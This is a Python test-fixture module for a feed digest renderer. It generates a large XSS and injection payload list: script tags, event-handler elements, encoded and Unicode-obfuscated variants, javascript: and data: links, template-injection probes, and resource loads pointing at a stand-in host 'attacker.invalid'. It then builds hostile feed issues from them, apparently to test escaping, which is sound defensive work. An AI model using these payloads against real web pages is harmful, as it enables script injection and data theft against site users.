"""Attacks that a feed may carry: scripts, elements, broken markup and links, and an issue made of them."""

from dataclasses import replace

from digest.model import FeedReport, Issue, IssueItem, Line, Source
from support import specimens

ELSEWHERE = "http://attacker.invalid/x"
# What would run, with ALERT in its place.
_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpageshow",
)
_ELEMENTS = (
    "<img src=x {h}=ALERT>",
    "<svg/{h}=ALERT>",
    "<body {h}=ALERT>",
    "<details open {h}=ALERT>",
    "<input autofocus {h}=ALERT>",
    "<video src=x {h}=ALERT>",
    "<marquee {h}=ALERT>x</marquee>",
    "<x tabindex=1 {h}=ALERT autofocus>",
)
_WHOLE = (
    "<script>ALERT</script>",
    "<ScRiPt>ALERT</sCrIpT>",
    "<script src=URL></script>",
    "<script\n>ALERT</script\n>",
    "<<script>ALERT//<</script>",
    "<iframe src=javascript:ALERT></iframe>",
    '<iframe srcdoc="<script>ALERT</script>"></iframe>',
    "<object data=javascript:ALERT></object>",
    "<embed src=URL>",
    "<link rel=stylesheet href=URL>",
    "<style>@import 'URL';</style>",
    "<style>body{background:url(URL)}</style>",
    "<base href=URL>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<form action=URL><button autofocus>x</button></form>",
    "<img src=URL>",
    "<img srcset=URL>",
    "<picture><source srcset=URL><img></picture>",
    "<audio src=URL autoplay>",
    "<math><mtext></p><img src=x onerror=ALERT></mtext></math>",
    "<svg><script>ALERT</script></svg>",
    "<svg><animate onbegin=ALERT attributeName=x dur=1s>",
    "<svg><use href=URL#x></use></svg>",
    "<template><script>ALERT</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=ALERT>'>",
    "<textarea><img src=x onerror=ALERT></textarea>",
    "<title><img src=x onerror=ALERT></title>",
    "<xmp><img src=x onerror=ALERT></xmp>",
    "<plaintext>",
    "<!--><img src=x onerror=ALERT>-->",
    "<![CDATA[<img src=x onerror=ALERT>]]>",
    "<!--[if mso]><img src=x onerror=ALERT><![endif]-->",
    "<?xml version=1?><img src=x onerror=ALERT>",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}<img src=x onerror=ALERT>{% endfor %}",
    "{{ '<img src=x onerror=ALERT>'|safe }}",
    "${ALERT}",
    "#{ALERT}",
    "[x](javascript:ALERT)",
    "![x](URL)",
    "<javascript:ALERT>",
    "&lt;script&gt;ALERT&lt;/script&gt;",
    "&#60;script&#62;ALERT&#60;/script&#62;",
    "\\u003cscript\\u003eALERT\\u003c/script\\u003e",
    "%3Cscript%3EALERT%3C/script%3E",
    "\ufe64script\ufe65ALERT\ufe64/script\ufe65",
    "\uff1cscript\uff1eALERT\uff1c/script\uff1e",
    "<scr\u0000ipt>ALERT</scr\u0000ipt>",
    "<img src=x one\u200brror=ALERT>",
    "\u202e<script>ALERT</script>",
    "\x1b]8;;javascript:ALERT\x07x\x1b]8;;\x07",
    "<p style=background:url(URL)>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<a href=javascript:ALERT id=x>x</a><script>x.click()</script>",
    "<input type=image src=URL>",
    "<portal src=URL>",
    "<dialog open><form method=dialog><button>x",
)
_BREAKS = ("", '">', "'>", "</a>", "</h3></td></tr></table>", "</style>", "</title>", "--></style></script>")
_LINKS = (
    "javascript:ALERT",
    "JaVaScRiPt:ALERT",
    " javascript:ALERT",
    "java\nscript:ALERT",
    "java\tscript:ALERT",
    "\x01javascript:ALERT",
    "&#106;avascript:ALERT",
    "javascript&colon;ALERT",
    "vbscript:ALERT",
    "data:text/html,<script>ALERT</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "ftp://example.org/x",
    "//attacker.invalid/x",
    "https://user:pass@example.org/",
    'https://example.org/"onmouseover="ALERT',
    "https://example.org/'onmouseover='ALERT",
    "https://example.org/><script>ALERT</script>",
    'https://example.org/#"><img src=x onerror=ALERT>',
    "https://[::1",
    "https://example.org:99999999/",
    "https:javascript:ALERT",
    "https://example.org/\u202egpj.exe",
    "mailto:x@example.org?body=<script>",
    "about:blank",
    "view-source:https://example.org",
    "x" * 5000,
    "https://example.org/" + "x" * 5000,
    "",
)


def _armed(payload: str, number: int) -> str:
    return payload.replace("ALERT", f"alert({number})").replace("URL", f"{ELSEWHERE}{number}")


def _payloads() -> list[str]:
    made = [element.format(h=handler) for element in _ELEMENTS for handler in _HANDLERS]
    broken = [
        breaks + attack for breaks in _BREAKS for attack in ("<img src=x onerror=ALERT>", "<script>ALERT</script>")
    ]
    attributes = [f"{quote} {handler}=ALERT x={quote}" for quote in "\"'`" for handler in _HANDLERS]
    return [_armed(one, number) for number, one in enumerate([*made, *_WHOLE, *broken, *attributes, *_LINKS])]


PAYLOADS = _payloads()
LINKS = [_armed(one, 9000 + number) for number, one in enumerate(_LINKS)]


def hostile(number: int, text: str, link: str) -> IssueItem:
    """An item all of whose parts are the attack."""
    return specimens.item(
        number,
        f"{text} title",
        id=f"{text}{number}",
        url=link,
        summary=f"{text} summary",
        authors=(text, f"{text} other"),
        sources=(Source(feed=f"{text} feed", url=link), Source(feed=text, url=f"{link}?2")),
        because=text,
        trends=(replace(specimens.item(1, "x").trends[0], evidence=(text, f"{text} word")),),
        artefacts=(),
    )


def told(texts: list[str], links: list[str]) -> Issue:
    """An issue of attacks."""
    items = tuple(hostile(number, text, links[number % len(links)]) for number, text in enumerate(texts))
    plain = specimens.issue()
    first, *others = plain.trends
    feeds = tuple(FeedReport(name=text, url=text, status="failed", reason=text) for text in texts[:12])
    return replace(
        plain,
        title=texts[0],
        trends=(replace(first, items=items, folded=items), *others),
        also_noted=items,
        read_first=tuple(item.id for item in items[:5]),
        lines=tuple(Line(text=f"{item.title} {text}", target=item.id) for item, text in zip(items, texts, strict=True))[
            :3
        ],
        feeds=feeds,
    )
